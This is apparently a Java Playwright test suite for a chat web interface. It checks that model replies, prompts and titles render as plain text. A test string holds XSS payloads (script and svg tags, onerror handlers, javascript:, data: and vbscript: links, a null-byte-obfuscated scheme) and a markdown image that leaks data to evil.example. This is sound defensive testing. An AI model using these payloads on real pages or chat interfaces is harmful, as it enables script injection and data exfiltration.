package runnel.page;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;

import com.microsoft.playwright.options.AriaRole;
import org.junit.jupiter.api.Test;
import runnel.upstream.openai.Scenarios;

/// What a model writes is text: it runs nothing and asks nothing of anybody.
class HostileTextTest extends PageTest {
    private static final String HOSTILE = """
            <img src="http://evil.example/a.png" onerror="alert(1)">
            <script>window.broken = 1</script>
            <svg onload="window.broken = 2"></svg>
            <iframe src="javascript:parent.broken = 3"></iframe>

            ![leak](http://evil.example/leak?q=secret) [click](javascript:window.broken=4) [data](data:text/html,<script>1</script>)
            [vb](vbscript:x) [tricky](java\u0000script:window.broken=5) <a href="javascript:window.broken=6">raw</a>

            ```html
            <script>window.broken = 7</script>
            ```

            [fine](https://example.org/page) the end
            """;

    @Test
    void markup_scripts_and_pictures_of_a_reply_run_nothing_and_ask_nothing() {
        model.next(Scenarios.deltas(HOSTILE.split("(?<=\\s)")));
        send("Be evil");
        assertThat(replies(page)).containsText("the end");
        assertEnded(page);

        assertEquals(0, replies(page).locator("img, script, iframe, svg[onload], [onerror]").count());
        for (var link : replies(page).getByRole(AriaRole.LINK).all()) {
            var href = link.getAttribute("href");
            assertFalse(href.strip().matches("(?is)(javascript|data|vbscript|java.script):.*"), href);
        }
        assertEquals("undefined", page.evaluate("typeof window.broken"));
        page.reload();
        assertThat(replies(page)).containsText("the end");
        assertEquals("undefined", page.evaluate("typeof window.broken"));
    }

    @Test
    void a_prompt_is_text_too_and_so_is_a_title() {
        send("<img src=x onerror=alert(1)> <b>bold</b>");
        assertThat(prompts(page)).containsText("<img src=x onerror=alert(1)>");
        assertEnded(page);
        assertEquals(0, page.locator("article img, nav img, article b").count());
    }

    @Test
    void a_link_to_elsewhere_does_not_tell_where_it_was_followed_from() {
        model.next(Scenarios.deltas("[fine](https://example.org/page)"));
        send("Hello");
        var link = replies(page).getByRole(AriaRole.LINK);
        assertThat(link).hasAttribute("href", "https://example.org/page");
        assertThat(link).hasAttribute("rel", java.util.regex.Pattern.compile(".*noopener.*|.*noreferrer.*"));
    }
}
